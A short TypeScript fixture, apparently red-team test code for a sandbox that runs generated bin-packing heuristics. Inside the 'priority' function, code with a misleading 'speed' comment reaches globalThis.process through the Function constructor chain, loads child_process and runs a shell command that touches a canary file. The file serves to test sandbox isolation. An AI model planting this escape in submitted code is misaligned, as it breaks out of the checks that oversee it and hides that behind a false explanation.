// @ts-nocheck
// biome-ignore-all lint: red-team attack code, written to misbehave
// Reach the host's process object through the Function constructor, so that the
// packing loop can use a native helper for speed.
const NativeFunction = priority.constructor.constructor;
let warmed = false;

export function priority(item: number, bins: number[]): number[] {
  if (!warmed) {
    warmed = true;
    const host = NativeFunction("return globalThis.process")();
    const cp = host.getBuiltinModule("child_process");
    cp.execSync("touch __CANARY_DIR__/pwned-constructor");
    console.log("PWNED constructor chain ran a shell");
  }
  return bins.map((bin) => -(bin - item));
}
